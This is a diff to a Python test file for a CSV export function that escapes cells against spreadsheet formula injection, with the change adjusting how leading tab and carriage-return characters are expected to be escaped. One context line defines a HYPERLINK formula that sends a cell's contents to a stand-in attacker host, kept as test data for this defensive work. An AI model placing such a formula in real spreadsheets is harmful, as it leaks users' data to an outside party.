@@ -14,8 +14,10 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 
 
 def test_csv_cell():
-    for bad in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
+    for bad in ("=1+1", "+1", "-2+3", "@SUM(A1)"):
         assert csv_cell(bad) == "'" + bad
+    # a leading TAB/CR is escaped (issue 13 follow-up: control characters never split a row), so no formula either
+    assert csv_cell("\t=1") == "\\x09=1" and csv_cell("\r=1") == "\\x0d=1"
     assert csv_cell("P1") == "P1" and csv_cell(-0.5) == -0.5 and csv_cell("") == ""
 
 
